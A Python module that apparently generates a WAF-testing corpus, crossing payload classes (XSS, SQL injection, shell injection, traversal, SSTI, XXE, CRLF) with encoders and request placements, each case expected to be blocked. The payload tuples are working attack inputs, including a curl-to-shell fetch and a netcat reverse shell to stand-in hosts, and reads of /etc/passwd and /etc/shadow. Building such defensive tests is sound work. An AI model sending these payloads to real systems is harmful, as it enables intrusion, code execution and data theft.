"""Every placement, every encoding: attack payloads as a black-box WAF tester sends them (issue 15).

A tester multiplies payloads by *encoders* (how the value is written) and *placements* (where it
goes in the request), then counts what is blocked. The payloads here are written for this
repository, a few per class from each class's grammar; the encoders and placements are the
generic ones of such tools (gotestwaf's public documentation names the idea): the value plain,
URL-encoded, base64 (padded and not), as JavaScript ``\\uXXXX`` escapes or XML character
references, in a query argument, the path, a custom header, the User-Agent, a form field, a
multipart field, a JSON member, a whole JSON / XML / SOAP / raw body.

Not every combination is an attack an application would act on (XML character references in a
query argument are text to most of them); the set keeps the combinations a server-side decoder
of the carrier turns back into the payload, so each case is an attack that lands:

* ``Plain``, ``URL``: every placement.
* ``Base64``, ``Base64Flat``: placements carrying one value, the path (a token as the resource
  name), and a member of a JSON / XML / SOAP body (the application decodes a member it knows).
* ``JSUnicode``: inside JSON strings (``JSONRequest``, ``JSONBody``).
* ``XMLEntity``: inside XML text (``XMLBody``, ``SOAPBody``).
"""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

XSS = (
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=confirm(1)>',
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
    "javascript:alert(document.cookie)",
)
SQLI = (
    "' OR '1'='1' --",
    "1 UNION SELECT username, password FROM users--",
    "1; DROP TABLE users--",
    "' AND SLEEP(5)#",
    "admin'--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
)
SHELL = (
    "; cat /etc/passwd",
    "| id",
    "$(whoami)",
    "`uname -a`",
    "&& curl http://evil.example/x.sh | sh",
    "; nc -e /bin/sh 10.0.0.1 4444",
)
TRAVERSAL = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//....//etc/hosts",
    "..%2f..%2f..%2fetc%2fpasswd",
)
SSTI = (
    "{{7*7}}{{config.items()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<%= system('id') %>",
    "#{7*7}${{7*7}}",
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE d [<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;]><d/>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
)
CRLF = (
    "x\r\nSet-Cookie: session=attacker",
    "/%0d%0aLocation:%20http://evil.example",
    "a\r\n\r\n<script>alert(1)</script>",
)
CLASSES: dict[str, tuple[str, ...]] = {
    "xss": XSS,
    "sqli": SQLI,
    "shell": SHELL,
    "traversal": TRAVERSAL,
    "ssti": SSTI,
    "xxe": XXE,
    "crlf": CRLF,
}

ONE_VALUE = ("URLParam", "Header", "UserAgent", "HTMLForm", "HTMLMultipartForm", "JSONRequest")
PLACEMENTS: dict[str, tuple[str, ...]] = {
    "Plain": (*ONE_VALUE, "URLPath", "JSONBody", "XMLBody", "SOAPBody", "RequestBody"),
    "URL": (*ONE_VALUE, "URLPath", "RequestBody"),
    "Base64": (*ONE_VALUE, "URLPath", "JSONBody", "XMLBody", "SOAPBody"),
    "Base64Flat": (*ONE_VALUE, "URLPath", "JSONBody", "XMLBody", "SOAPBody"),
    "JSUnicode": ("JSONRequest", "JSONBody"),
    "XMLEntity": ("XMLBody", "SOAPBody"),
}
# Classes whose payload is a whole document or protocol text, not a value: fewer placements.
ONLY: dict[str, tuple[str, ...]] = {
    "xxe": ("XMLBody", "RequestBody", "HTMLForm", "URLParam", "JSONRequest", "HTMLMultipartForm"),
    "crlf": ("URLParam", "URLPath", "HTMLForm", "JSONRequest", "HTMLMultipartForm"),
}


def encode(encoder: str, payload: str) -> str:
    if encoder == "URL":
        return quote(payload, safe="")
    if encoder == "Base64":
        return base64.b64encode(payload.encode()).decode()
    if encoder == "Base64Flat":
        return base64.b64encode(payload.encode()).decode().rstrip("=")
    if encoder == "JSUnicode":
        return "".join(f"\\u{ord(ch):04x}" for ch in payload)
    if encoder == "XMLEntity":
        return "".join(f"&#x{ord(ch):x};" for ch in payload)
    return payload


def _place(placement: str, value: str, encoder: str) -> dict[str, Any] | None:
    """Corpus-case fields for ``value`` (already encoded) in ``placement``."""
    if placement in ("URLParam", "HTMLForm"):
        # On the wire a query or form value is percent-encoded where it must be.
        wire = value if encoder == "URL" else quote(value, safe="")
        return {"placement": placement, "payload": wire}
    if placement == "URLPath":
        return {"placement": placement, "payload": quote(value, safe="/") if encoder == "Plain" else value}
    if placement in ("Header", "UserAgent"):
        if not value.isascii() or any(ch in value for ch in "\r\n"):
            return None  # a header cannot carry it as is
        return {"placement": placement, "payload": value}
    if placement == "JSONRequest" and encoder == "JSUnicode":
        body = '{"id": 7, "q": "' + value + '"}'
        return _http(body, "application/json")
    if placement == "JSONBody":
        inner = value if encoder == "JSUnicode" else json.dumps(value)[1:-1]
        return {"placement": "JSONBody", "payload": '{"filter": {"name": ["' + inner + '"]}, "page": 1}'}
    if placement == "XMLBody":
        text = value if encoder == "XMLEntity" else _xml_text(value)
        return {
            "placement": "XMLBody",
            "payload": f'<?xml version="1.0"?><query><name>{text}</name><page>1</page></query>',
        }
    if placement == "SOAPBody" and encoder == "XMLEntity":
        envelope = (
            '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            f'<soap:Body><find xmlns="urn:shop"><name>{value}</name></find></soap:Body></soap:Envelope>'
        )
        return _http(envelope, "text/xml")
    return {"placement": placement, "payload": value}


def _xml_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _http(body: str, content_type: str) -> dict[str, Any]:
    headers = [["Host", "localhost"], ["Content-Type", content_type], ["User-Agent", "Mozilla/5.0"]]
    return {
        "placement": "HTTP",
        "request": {"method": "POST", "uri": "/api", "version": "HTTP/1.1", "headers": headers, "body": body},
    }


def placed_cases() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for family, payloads in CLASSES.items():
        for encoder, placements in PLACEMENTS.items():
            for placement in placements:
                if family in ONLY and placement not in ONLY[family]:
                    continue
                for i, payload in enumerate(payloads):
                    fields = _place(placement, encode(encoder, payload), encoder)
                    if fields is None:
                        continue
                    out.append(
                        {
                            "id": f"own-placed/{family}/{encoder}/{placement}/{i}",
                            "set": "own-placed",
                            "category": f"placed-{family}",
                            "family": f"placed-{family}",
                            "param": "q",
                            "expect": "block",
                            "shape": f"{encoder}:{placement}",
                            **fields,
                        }
                    )
    return out
